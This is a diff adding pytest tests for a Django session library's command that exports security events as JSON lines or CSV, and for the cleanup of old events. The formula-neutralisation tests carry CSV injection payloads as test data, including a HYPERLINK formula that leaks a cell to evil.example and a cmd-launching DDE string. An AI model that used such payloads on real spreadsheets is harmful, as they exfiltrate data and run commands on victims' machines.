@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import json
 import re
-from datetime import timedelta
+import uuid
+from datetime import datetime, timedelta
+from datetime import timezone as dt_timezone
 from io import StringIO
 
 import pytest
@@ -12,8 +16,9 @@ from django.core.management.base import CommandError
 from django.test import override_settings
 from django.utils import timezone
 
-from nilva_session import utils
-from nilva_session.models import EndReason, UserSession
+from nilva_session import events, utils
+from nilva_session.events import FIELDS, as_dict
+from nilva_session.models import EndReason, EventKind, SessionEvent, UserSession
 from tests.conftest import DESKTOP_UA
 
 pytestmark = pytest.mark.django_db
@@ -232,3 +237,329 @@ def test_deletes_what_authentication_refuses_for_time_and_keeps_ended_sessions_f
         )
         run()
     assert remaining() == {live.pk, ended_idle.pk, ended_expired.pk}
+
+
+# --------------------------------------------------------------------------------------------
+# nilva_session_events: the export of security events
+# --------------------------------------------------------------------------------------------
+
+
+def make_event(kind=EventKind.LOGIN, *, ago=timedelta(minutes=1), at=None, **fields):
+    """Emit (and so store) one event, ``ago`` before now or at ``at``."""
+    return events.record(kind, at=at if at is not None else timezone.now() - ago, **fields)
+
+
+def export(*args) -> str:
+    out = StringIO()
+    call_command("nilva_session_events", *args, stdout=out)
+    return out.getvalue()
+
+
+def exported(*args) -> list[dict]:
+    return [json.loads(line) for line in export(*args).splitlines()]
+
+
+def exported_ids(*args) -> list[int]:
+    return [line["id"] for line in exported(*args)]
+
+
+def csv_rows(*args) -> list[list[str]]:
+    return list(csv.reader(StringIO(export("--format", "csv", *args), newline="")))
+
+
+def test_export_jsonl_lines_parse_and_are_oldest_first(user):
+    late = make_event(ago=timedelta(hours=1), user_id=user.pk)
+    early = make_event(EventKind.REVOKED, ago=timedelta(hours=3), reason="logout")
+    middle = make_event(ago=timedelta(hours=2), user_agent='Müller\nbrowser, "quoted"')
+    same_time = timezone.now() - timedelta(minutes=30)
+    first_tied, second_tied = events.emit(
+        [events.new(EventKind.ROTATED, at=same_time), events.new(EventKind.LOGIN, at=same_time)]
+    )
+
+    output = export()
+    lines = output.splitlines()
+    assert len(lines) == 5  # one line per event, the newline in a user agent escaped
+    assert output.endswith("\n")
+    parsed = [json.loads(line) for line in lines]
+    order = [early, middle, late, first_tied, second_tied]
+    assert [line["id"] for line in parsed] == [e.pk for e in order]
+    assert parsed == [as_dict(SessionEvent.objects.get(pk=e.pk)) for e in order]
+    assert parsed[1]["user_agent"] == 'Müller\nbrowser, "quoted"'
+    times = [line["time"] for line in parsed]
+    assert times == sorted(times)
+
+
+@pytest.fixture
+def aged_events(db):
+    """Events of several ages, by label."""
+    ages = {
+        "10m": timedelta(minutes=10),
+        "2h": timedelta(hours=2),
+        "3d": timedelta(days=3),
+        "10d": timedelta(days=10),
+        "20d": timedelta(days=20),
+    }
+    return {label: make_event(ago=age).pk for label, age in ages.items()}
+
+
+@pytest.mark.parametrize(
+    ("since", "labels"),
+    [
+        ("90s", []),
+        ("30m", ["10m"]),
+        ("12h", ["2h", "10m"]),
+        ("7d", ["3d", "2h", "10m"]),
+        ("2w", ["10d", "3d", "2h", "10m"]),
+        ("4w", ["20d", "10d", "3d", "2h", "10m"]),
+        (" 12h ", ["2h", "10m"]),
+    ],
+)
+def test_export_since_relative(aged_events, since, labels):
+    assert exported_ids("--since", since) == [aged_events[label] for label in labels]
+
+
+def test_export_since_defaults_to_one_day(aged_events):
+    assert exported_ids() == [aged_events["2h"], aged_events["10m"]]
+
+
+def test_export_until_relative(aged_events):
+    assert exported_ids("--since", "2w", "--until", "1h") == [
+        aged_events["10d"],
+        aged_events["3d"],
+        aged_events["2h"],
+    ]
+
+
+@pytest.fixture
+def march_events(db):
+    """Two events on 2024-03-01: at 10:00 and 12:00 UTC."""
+    ten = make_event(at=datetime(2024, 3, 1, 10, tzinfo=dt_timezone.utc))
+    noon = make_event(at=datetime(2024, 3, 1, 12, tzinfo=dt_timezone.utc))
+    return ten.pk, noon.pk
+
+
+@pytest.mark.parametrize(
+    ("since", "expected"),
+    [
+        ("2024-03-01T11:00:00+00:00", "noon"),
+        ("2024-03-01T11:00:00Z", "noon"),
+        ("2024-03-01T14:00:00+03:30", "noon"),  # 10:30 UTC
+        ("2024-03-01T13:00:00+03:30", "both"),  # 09:30 UTC
+        ("2024-03-01T10:00:00Z", "both"),  # the bound itself is in
+        ("2024-03-01T12:00:00.000001Z", "none"),
+        ("2024-03-01T11:00:00", "noon"),  # naive: TIME_ZONE (UTC in the tests)
+        ("2024-03-01 11:00", "noon"),
+    ],
+)
+def test_export_since_iso(march_events, since, expected):
+    ten, noon = march_events
+    want = {"noon": [noon], "both": [ten, noon], "none": []}[expected]
+    assert exported_ids("--since", since) == want
+
+
+def test_export_since_naive_iso_is_in_time_zone(march_events):
+    ten, noon = march_events
+    with override_settings(TIME_ZONE="Asia/Tehran"):  # +03:30
+        assert exported_ids("--since", "2024-03-01T13:00:00") == [ten, noon]  # 09:30 UTC
+        assert exported_ids("--since", "2024-03-01T14:00:00") == [noon]  # 10:30 UTC
+    assert exported_ids("--since", "2024-03-01T13:00:00") == []  # 13:00 UTC
+
+
+def test_export_until_iso_is_exclusive(march_events):
+    ten, noon = march_events
+    since = ("--since", "2024-03-01T00:00:00Z")
+    assert exported_ids(*since, "--until", "2024-03-01T12:00:00Z") == [ten]
+    assert exported_ids(*since, "--until", "2024-03-01T12:00:00.000001Z") == [ten, noon]
+    assert exported_ids(*since, "--until", "2024-03-01T10:00:00Z") == []
+
+
+def test_export_kind_filter_with_two_kinds(db):
+    login = make_event(EventKind.LOGIN, ago=timedelta(minutes=4))
+    make_event(EventKind.REVOKED, ago=timedelta(minutes=3))
+    suspended = make_event(EventKind.SUSPENDED, ago=timedelta(minutes=2))
+    make_event(EventKind.ROTATED, ago=timedelta(minutes=1))
+    assert exported_ids("--kind", "login", "--kind", "suspended") == [login.pk, suspended.pk]
+    assert exported_ids("--kind", "suspended") == [suspended.pk]
+
+
+def test_export_unknown_kind_is_a_command_error(db):
+    make_event()
+    with pytest.raises(CommandError):
+        export("--kind", "logged_in")
+
+
+def test_export_user_filter(user, other_user):
+    mine = [make_event(user_id=user.pk, ago=timedelta(minutes=m)) for m in (3, 1)]
+    make_event(user_id=other_user.pk, ago=timedelta(minutes=2))
+    make_event(EventKind.LOGIN_FAILED, user_id=None)
+    assert exported_ids("--user", str(user.pk)) == [e.pk for e in mine]
+    assert exported_ids("--user", str(other_user.pk + user.pk + 100)) == []
+
+
+def test_export_after_id(db):
+    made = [make_event(ago=timedelta(minutes=m)) for m in (4, 3, 2, 1)]
+    assert exported_ids("--after-id", str(made[1].pk)) == [made[2].pk, made[3].pk]
+    assert exported_ids("--after-id", str(made[3].pk)) == []
+    assert exported_ids("--after-id", "0") == [e.pk for e in made]
+
+
+def test_export_csv_header_and_rows(user):
+    session_id = uuid.uuid4()
+    data = {"detail": 'User agent changed, from "A" to B.'}
+    first = make_event(
+        EventKind.SUSPENDED,
+        ago=timedelta(minutes=2),
+        user_id=user.pk,
+        session_id=session_id,
+        ip="198.51.100.4",
+        user_agent="Agent, with a comma",
+        reason="user_agent_changed",
+        data=data,
+    )
+    second = make_event(EventKind.LOGIN_FAILED, ago=timedelta(minutes=1))
+
+    header, *rows = csv_rows()
+    assert header == list(FIELDS)
+    assert len(rows) == 2
+    row = dict(zip(header, rows[0], strict=True))
+    stored = as_dict(SessionEvent.objects.get(pk=first.pk))
+    assert row["id"] == str(first.pk)
+    assert row["time"] == stored["time"]
+    assert row["time"].endswith("Z")
+    assert row["kind"] == "suspended"
+    assert row["user_id"] == str(user.pk)
+    assert row["session_id"] == str(session_id)
+    assert row["ip"] == "198.51.100.4"
+    assert row["user_agent"] == "Agent, with a comma"
+    assert row["reason"] == "user_agent_changed"
+    assert json.loads(row["data"]) == data
+    empty = dict(zip(header, rows[1], strict=True))
+    assert empty["id"] == str(second.pk)
+    assert (empty["user_id"], empty["session_id"], empty["ip"]) == ("", "", "")
+    assert json.loads(empty["data"]) == {}
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_csv_neutralises_formula_cells(db, agent):
+    make_event(user_agent=agent)
+    make_event(user_agent=DESKTOP_UA)
+    header, formula_row, plain_row = csv_rows()
+    column = header.index("user_agent")
+    assert formula_row[column] == "'" + agent
+    assert plain_row[column] == DESKTOP_UA
+    # JSON lines are not a spreadsheet: the value is exported as it is.
+    assert exported()[0]["user_agent"] == agent
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        'Mozilla/5.0\r=HYPERLINK("https://evil.example/","x")',
+        'Mozilla/5.0\r\n=HYPERLINK("https://evil.example/","x")',
+        'Mozilla/5.0\n=HYPERLINK("https://evil.example/","x")',
+    ],
+)
+def test_export_csv_line_breaks_in_a_cell_start_no_row(db, agent):
+    """A CR or LF inside a user agent stays in its (quoted) cell: no new row, no formula."""
+    made = make_event(user_agent=agent)
+    after = make_event(ago=timedelta(seconds=1))
+    header, *rows = csv_rows()
+    assert [row[0] for row in rows] == [str(made.pk), str(after.pk)]
+    row = dict(zip(header, rows[0], strict=True))
+    assert row["user_agent"] == agent
+    assert row["data"] == "{}"
+
+
+@pytest.mark.parametrize(
+    "value", ["yesterday", "5y", "1.5h", "-1d", "2024-13-45T00:00:00", "999999w", "12 h"]
+)
+@pytest.mark.parametrize("option", ["--since", "--until"])
+def test_export_invalid_time_is_a_command_error(db, option, value):
+    make_event()
+    with pytest.raises(CommandError, match="ISO 8601"):
+        export(f"{option}={value}")
+
+
+@pytest.mark.parametrize("value", ["abc", "1.5", "", "99999999999999999999", "1; DROP"])
+@pytest.mark.parametrize("output_format", ["jsonl", "csv"])
+def test_export_user_that_is_no_primary_key_is_a_command_error(user, value, output_format):
+    make_event(user_id=user.pk)
+    out = StringIO()
+    with pytest.raises(CommandError, match="--user"):
+        call_command("nilva_session_events", "--user", value, "--format", output_format, stdout=out)
+    assert out.getvalue() == ""  # refused before anything was written
+
+
+def test_export_empty_result(db):
+    make_event(ago=timedelta(days=3))  # outside the default day
+    assert export() == ""
+    assert export("--format", "jsonl") == ""
+    assert csv_rows() == [list(FIELDS)]
+    assert export("--format", "csv") == ",".join(FIELDS) + "\n"
+
+
+# --------------------------------------------------------------------------------------------
+# nilva_session_cleanup and events
+# --------------------------------------------------------------------------------------------
+
+
+def event_ids():
+    return set(SessionEvent.objects.values_list("pk", flat=True))
+
+
+def test_cleanup_deletes_events_past_event_retention_and_keeps_recent_ones(user):
+    old = [make_event(ago=timedelta(days=d)) for d in (91, 365)]
+    recent = [make_event(ago=timedelta(days=d)) for d in (89, 1)]
+    recent.append(make_event(ago=timedelta(minutes=1)))
+    output = run()
+    assert event_ids() == {e.pk for e in recent}
+    assert not {e.pk for e in old} & event_ids()
+    assert "Deleted 2 security events" in output
+
+
+def test_cleanup_uses_the_event_retention_setting(db):
+    old = make_event(ago=timedelta(days=11))
+    kept = make_event(ago=timedelta(days=9))
+    with override_settings(NILVA_SESSION={"EVENT_RETENTION": timedelta(days=10)}):
+        run()
+    assert event_ids() == {kept.pk}
+    assert old.pk not in event_ids()
+
+
+def test_cleanup_event_retention_in_seconds(db):
+    make_event(ago=timedelta(hours=2))
+    kept = make_event(ago=timedelta(minutes=30))
+    with override_settings(NILVA_SESSION={"EVENT_RETENTION": 3600}):
+        run()
+    assert event_ids() == {kept.pk}
+
+
+def test_cleanup_deletes_old_events_in_batches(db):
+    for days in range(91, 98):
+        make_event(ago=timedelta(days=days))
+    kept = make_event()
+    output = run("--batch-size", "3")
+    assert event_ids() == {kept.pk}
+    assert "Deleted 7 security events" in output
+
+
+def test_cleanup_session_retention_does_not_apply_to_events(db):
+    kept = make_event(ago=timedelta(days=30))
+    run("--retention-days", "0")
+    assert event_ids() == {kept.pk}
+
+
+def test_cleanup_dry_run_deletes_no_events(db):
+    made = {make_event(ago=timedelta(days=d)).pk for d in (1, 200)}
+    run("--dry-run")
+    assert event_ids() == made
